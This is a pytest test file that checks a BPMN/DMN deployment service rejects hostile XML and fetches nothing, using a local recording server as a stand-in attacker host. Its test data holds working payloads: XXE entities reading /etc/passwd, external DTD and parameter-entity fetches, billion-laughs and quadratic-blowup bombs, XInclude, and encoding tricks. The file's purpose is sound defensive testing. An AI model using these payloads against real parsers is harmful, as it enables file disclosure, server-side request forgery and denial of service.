"""Hostile diagrams: DTDs, entities, XInclude, huge and deep documents are refused, nothing fetched.

A local HTTP server stands in for an attacker's host; every test asserts it got no request.
"""

from __future__ import annotations

import http.server
import threading

import pytest
from sqlalchemy import func, select

from app.engine import parse_bundle
from app.models import Deployment, ProcessDefinition, Resource
from app.services.access.actors import SYSTEM
from app.services.definitions.deployments import deploy
from app.services.errors import DeploymentRejected
from tests.support import fixture_files

BPMN_NS = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"'


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's naming
        self.requests.append(self.path)
        body = b'<!ENTITY leak "stolen">'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):  # keep test output quiet
        pass


@pytest.fixture(scope="module")
def attacker():
    """An HTTP server on 127.0.0.1 that records every request it receives."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def _nothing_fetched():
    _Recorder.requests.clear()
    yield
    assert _Recorder.requests == [], "the server received a request: something was fetched"


def _process(body: str = "", process_attrs: str = "") -> str:
    return (
        f'<bpmn:definitions {BPMN_NS} id="d" targetNamespace="http://zorgpad.example/x"{process_attrs}>'
        '<bpmn:process id="evil" isExecutable="true">'
        f'<bpmn:startEvent id="start"><bpmn:documentation>{body}</bpmn:documentation></bpmn:startEvent>'
        "</bpmn:process></bpmn:definitions>"
    )


def _doc(doctype: str, body: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n{_process(body)}'.encode()


def hostile_documents(base: str) -> dict[str, bytes]:
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    )
    big = "x" * 100_000
    deep = "<a>" * 10_000 + "</a>" * 10_000
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>\n'
             f'<!DOCTYPE d [<!ENTITY x SYSTEM "{base}/utf16">]>\n{_process("&x;")}')
    return {
        "xxe-file": _doc('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "xxe-http": _doc(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{base}/xxe">]>', "&x;"),
        "external-dtd": _doc(f'<!DOCTYPE d SYSTEM "{base}/external.dtd">'),
        "parameter-entity": _doc(f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{base}/param.dtd"> %p;]>', "&leak;"),
        "billion-laughs": _doc(f"<!DOCTYPE d [{laughs}]>", "&lol9;"),
        "quadratic-blowup": _doc(f'<!DOCTYPE d [<!ENTITY big "{big}">]>', "&big;" * 1000),
        "doctype-after-long-comment": (
            '<?xml version="1.0"?>\n<!--' + " " * 10_000 + f'-->\n<!DOCTYPE d SYSTEM "{base}/late.dtd">\n'
            + _process()
        ).encode(),
        "six-megabytes": _doc("", "x" * (6 * 1024 * 1024)),
        "ten-thousand-deep": _doc("", deep),
        "utf16-bom-with-dtd": utf16.encode("utf-16"),
        "utf8-bom-with-dtd": b"\xef\xbb\xbf" + _doc(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{base}/bom">]>', "&x;"),
        "xinclude": _doc(
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{base}/xinclude" parse="text"/>',
        ),
    }


CASES = [
    "xxe-file",
    "xxe-http",
    "external-dtd",
    "parameter-entity",
    "billion-laughs",
    "quadratic-blowup",
    "doctype-after-long-comment",
    "six-megabytes",
    "ten-thousand-deep",
    "utf16-bom-with-dtd",
    "utf8-bom-with-dtd",
    "xinclude",
]
REASONS = {
    "six-megabytes": "limit",
    "ten-thousand-deep": "deep",
    "xinclude": "XInclude",
}


@pytest.mark.parametrize("case", CASES)
@pytest.mark.parametrize("kind", ["bpmn", "dmn"])
def test_parse_bundle_refuses_with_a_clear_finding(attacker, case, kind):
    content = hostile_documents(attacker)[case]
    name = f"evil.{kind}"
    bundle = parse_bundle({name: content})
    assert not bundle.ok and not bundle.processes
    [finding] = [f for f in bundle.findings if f.file == name]
    assert REASONS.get(case, "DTD") in finding.message, finding.message
    assert "stolen" not in str(bundle.findings) and "root:" not in str(bundle.findings)


@pytest.mark.parametrize("case", CASES)
def test_deploy_refuses_and_activates_nothing(attacker, db, case):
    files = fixture_files("two_step.bpmn", "stap-a.schema.json")
    files["evil.bpmn"] = hostile_documents(attacker)[case]
    with pytest.raises(DeploymentRejected) as info:
        deploy(files, actor=SYSTEM, name="evil", source="api")
    assert any(f["file"] == "evil.bpmn" for f in info.value.findings)
    for table in (ProcessDefinition, Deployment, Resource):
        assert db.session.execute(select(func.count()).select_from(table)).scalar() == 0


def test_schema_location_hints_are_not_followed(attacker):
    """xsi:schemaLocation is a hint a validator could fetch; ours validates with its own XSD."""
    hint = (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL {attacker}/schema.xsd"'
    )
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n' + _process(process_attrs=hint)).encode()
    bundle = parse_bundle({"hint.bpmn": content})
    assert bundle.ok, bundle.findings  # harmless by itself: accepted, and nothing fetched
